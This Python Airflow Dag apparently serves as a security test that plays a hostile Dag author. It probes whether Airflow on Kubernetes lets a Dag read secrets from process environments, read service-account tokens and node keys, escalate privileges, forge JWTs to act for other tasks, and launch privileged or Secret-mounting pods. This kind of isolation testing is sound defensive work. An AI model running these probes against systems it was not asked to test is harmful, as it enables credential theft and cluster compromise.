"""What a hostile author of a Dag would try, from a task and from the top of the file.

Each attempt answers `done` or why not. The top of this file runs in the dag-processor; what it
found is the documentation of the Dag. Whom to attack is in a file beside this one.
"""

import base64
import ctypes
import json
import os
import re
import socket
import ssl
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any

from airflow.sdk import dag, get_current_context, task
from kubernetes.client import models as k8s

ABOUT = json.loads(Path(__file__).with_name("attacker.json").read_text())
SECONDS = 3
SECRETS = {
    "read the URL of the database": "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN",
    "read the Fernet key": "AIRFLOW__CORE__FERNET_KEY",
    "read the JWT secret": "AIRFLOW__API_AUTH__JWT_SECRET",
    "read the API secret key": "AIRFLOW__API__SECRET_KEY",
}
PTRACE_ATTACH, CLONE_NEWUSER = 16, 0x10000000


def connect(target: str) -> str:
    host, port = ABOUT["targets"][target]
    socket.create_connection((host, port), timeout=SECONDS).close()
    return "done"


def environments() -> str:
    """What every process that may be read was started with."""
    found = []
    for file in Path("/proc").glob("[0-9]*/environ"):
        try:
            found.append(file.read_text(errors="replace"))
        except OSError:
            continue
    return "\0".join([*found, *(f"{name}={value}" for name, value in os.environ.items())])


def variable(name: str) -> str:
    match = re.search(rf"(?:^|\0){name}=([^\0]*)", environments())
    # Airflow takes the URL away from tasks by writing this in its place.
    if not match or match[1].startswith("airflow-db-not-allowed"):
        raise PermissionError("not in the environment")
    return "done"


def read(*places: str) -> str:
    for place in places:
        if Path(place).exists():
            Path(place).read_bytes()
            return "done"
    raise FileNotFoundError("no such file")


def write(place: str) -> str:
    Path(place).write_text("attacked")
    return "done"


def call(name: str, *arguments: Any) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def kubernetes(path: str) -> str:
    """Ask the Kubernetes API, as nobody."""
    context = ssl._create_unverified_context()
    url = f"https://kubernetes.default.svc{path}"
    urllib.request.urlopen(url, timeout=SECONDS, context=context)
    return "done"


ATTEMPTS: dict[str, Callable[[], str]] = {
    **{what: partial(variable, name) for what, name in SECRETS.items()},
    **{f"reach {target}": partial(connect, target) for target in ABOUT["targets"]},
    "read a token of Kubernetes": partial(
        read, "/var/run/secrets/kubernetes.io/serviceaccount/token"
    ),
    "read Secrets by the Kubernetes API": partial(kubernetes, "/api/v1/secrets"),
    "read a key of the node": partial(read, "/etc/kubernetes/pki/ca.key", "/host/etc/shadow"),
    "write to the root file system": partial(write, "/usr/local/bin/attacked"),
    "write to Airflow's own code": partial(write, os.__file__ + ".attacked"),
    "write to the configuration": partial(write, "/opt/airflow/airflow.cfg"),
    "write to the Dags": partial(write, f"{__file__}.attacked"),
    "become root": partial(call, "setuid", 0),
    "mount a file system": partial(call, "mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "get a user namespace of its own": partial(call, "unshare", CLONE_NEWUSER),
    "open a raw socket": lambda: (
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close() or "done"
    ),
    "read the messages of the kernel": partial(call, "klogctl", 3, b" " * 64, 64),
}


def outcome(attempt: Callable[[], str]) -> str:
    try:
        return attempt()
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def attempts() -> dict[str, str]:
    with ThreadPoolExecutor(len(ATTEMPTS)) as pool:
        return dict(zip(ATTEMPTS, pool.map(outcome, ATTEMPTS.values()), strict=True))


def forged(token: str, **claims: Any) -> dict[str, str]:
    """The token for somebody else: as it is signed, unsigned, and signed with a poor secret."""
    import jwt

    head, body, signature = token.split(".")
    mine = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    other = base64.urlsafe_b64encode(json.dumps({**mine, **claims}).encode()).decode().rstrip("=")
    return {
        "its own token": token,
        "a changed token": f"{head}.{other}.{signature}",
        "an unsigned token": jwt.encode({**mine, **claims}, None, algorithm="none"),
        "a token signed with a guess": jwt.encode(
            {**mine, **claims}, "airflow" * 10, algorithm="HS512"
        ),
    }


def run_as(token: str, task_instance: str) -> int:
    """Tell the execution API that a task runs here; return the status of the answer."""
    from airflow.configuration import conf

    body = {
        "state": "running",
        "hostname": "attacker",
        "unixname": "attacker",
        "pid": 1,
        "start_date": "2026-01-01T00:00:00Z",
    }
    base = conf.get("core", "execution_api_server_url").rstrip("/")
    request = urllib.request.Request(
        f"{base}/task-instances/{task_instance}/run",
        data=json.dumps(body).encode(),
        method="PATCH",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        return urllib.request.urlopen(request, timeout=30).status
    except urllib.error.HTTPError as error:
        return error.code


def own_token() -> str:
    """The token that the executor wrote into the arguments of this pod."""
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        if match := re.search(r'"token": ?"([\w.-]+)"', file.read_text(errors="replace")):
            return match[1]
    raise LookupError("no token in any command line")


def launched(**spec: Any) -> k8s.V1Pod:
    """A pod that Pod Security `restricted` and the quota take, but for what is said."""
    labels = spec.pop("labels", {})
    container = spec.pop("container", {})
    quiet = {"allow_privilege_escalation": False, "capabilities": {"drop": ["ALL"]}}
    security = k8s.V1SecurityContext(**{**quiet, **container.pop("security_context", {})})
    return k8s.V1Pod(
        metadata=k8s.V1ObjectMeta(generate_name="attack-", labels=labels),
        spec=k8s.V1PodSpec(
            **{
                "containers": [
                    k8s.V1Container(
                        name="base",
                        image="none",
                        resources=k8s.V1ResourceRequirements(
                            requests={"cpu": "10m", "memory": "16Mi"},
                            limits={"cpu": "100m", "memory": "32Mi"},
                        ),
                        security_context=security,
                        **container,
                    )
                ],
                "security_context": k8s.V1PodSecurityContext(
                    run_as_non_root=True,
                    seccomp_profile=k8s.V1SeccompProfile(type="RuntimeDefault"),
                ),
                **spec,
            }
        ),
    )


def by_launcher() -> dict[str, str]:
    """What the account that may launch pods is refused; nothing is really made."""
    from kubernetes import client, config

    config.load_incluster_config()
    core, rights = client.CoreV1Api(), client.RbacAuthorizationV1Api()
    main, tasks = ABOUT["namespaces"]["main"], ABOUT["namespaces"]["tasks"]

    def create(namespace: str = tasks, **spec: Any) -> str:
        core.create_namespaced_pod(namespace, launched(**spec), dry_run="All")
        return "done"

    def ask(act: Callable[..., Any], *arguments: Any, **options: Any) -> str:
        act(*arguments, **options, _request_timeout=10)
        return "done"

    volume = k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="anything"))
    host = k8s.V1Volume(name="v", host_path=k8s.V1HostPathVolumeSource(path="/"))
    secret = k8s.V1SecretKeySelector(name="anything", key="any")
    source = k8s.V1EnvVar(name="A", value_from=k8s.V1EnvVarSource(secret_key_ref=secret))
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}
    binding = {"metadata": {"name": "attack"}, "roleRef": role, "subjects": []}
    request = {"spec": {"audiences": None}}
    tries: dict[str, Callable[[], str]] = {
        "launch a pod as the operator does": create,
        "launch a privileged pod": partial(
            create, container={"security_context": {"privileged": True}}
        ),
        "launch a pod with a path of the node": partial(create, volumes=[host]),
        "launch a pod in the network of the node": partial(create, host_network=True),
        "launch a pod with the processes of the node": partial(create, host_pid=True),
        "launch a pod as another account": partial(
            create, service_account_name="airflow-scheduler"
        ),
        "launch a pod with the label of a component": partial(
            create, labels={"tier": "airflow", "component": "scheduler", "release": "airflow"}
        ),
        "launch a pod with the label of another release": partial(
            create, labels={"component": "worker", "release": "other"}
        ),
        "launch a pod that mounts a Secret": partial(create, volumes=[volume]),
        "launch a pod with a Secret in its environment": partial(
            create, container={"env": [source]}
        ),
        "launch a pod beside the platform": partial(create, namespace=main),
        "launch a pod beside another team": partial(create, namespace="kube-system"),
        "list the Secrets of the tasks": partial(ask, core.list_namespaced_secret, tasks),
        "list the Secrets of the platform": partial(ask, core.list_namespaced_secret, main),
        "list the pods of the platform": partial(ask, core.list_namespaced_pod, main),
        "change a ConfigMap": partial(
            ask, core.patch_namespaced_config_map, "airflow-config", tasks, {"data": {"a": "b"}}
        ),
        "give itself rights": partial(
            ask, rights.create_namespaced_role_binding, tasks, binding, dry_run="All"
        ),
        "make a token of another account": partial(
            ask, core.create_namespaced_service_account_token, "airflow-worker", tasks, request
        ),
    }

    return {what: outcome(attempt) for what, attempt in tries.items()}


def overridden(**spec: Any) -> dict[str, Any]:
    """The executor_config of a task with another pod than the platform's."""
    labels = spec.pop("labels", None)
    container = spec.pop("container", {})
    base = k8s.V1Container(name="base", **container)
    return {
        "pod_override": k8s.V1Pod(
            metadata=k8s.V1ObjectMeta(labels=labels), spec=k8s.V1PodSpec(containers=[base], **spec)
        )
    }


LAUNCHER = overridden(
    service_account_name="airflow-pod-launcher", automount_service_account_token=True
)
OVERRIDES = {
    "privileged": overridden(
        container={"security_context": k8s.V1SecurityContext(privileged=True)}
    ),
    "path_of_the_node": overridden(
        volumes=[k8s.V1Volume(name="v", host_path=k8s.V1HostPathVolumeSource(path="/"))]
    ),
    "another_account": overridden(service_account_name="airflow-scheduler"),
    "label_of_a_component": overridden(labels={"component": "scheduler"}),
    "a_secret": overridden(
        volumes=[k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="airflow-jwt"))]
    ),
}
IN_A_TASK = "AIRFLOW_IS_K8S_EXECUTOR_POD" in os.environ
FOUND = {} if IN_A_TASK or "pytest" in sys.modules else attempts()


@dag(schedule=None, doc_md=json.dumps(FOUND))
def attacker() -> None:
    @task(retries=0)
    def victim() -> str:
        return str(get_current_context()["ti"].id)

    @task(retries=0)
    def attack() -> dict[str, str]:
        return attempts()

    @task(retries=0)
    def forge(other: str) -> dict[str, int]:
        """Statuses: 409 is for a token that is good for a task that cannot be run again."""
        token, mine = own_token(), str(get_current_context()["ti"].id)
        statuses = {"its own token for itself": run_as(token, mine)}
        for what, one in forged(token, sub=other).items():
            statuses[f"{what} for another task"] = run_as(one, other)
        return statuses

    @task(retries=0, executor_config=LAUNCHER)
    def launch() -> dict[str, str]:
        return by_launcher()

    forge(victim())
    attack()
    launch()
    for name, override in OVERRIDES.items():

        @task(task_id=name, retries=0, executor_config=override)
        def overriding() -> None:
            """It never runs."""

        overriding()


attacker()
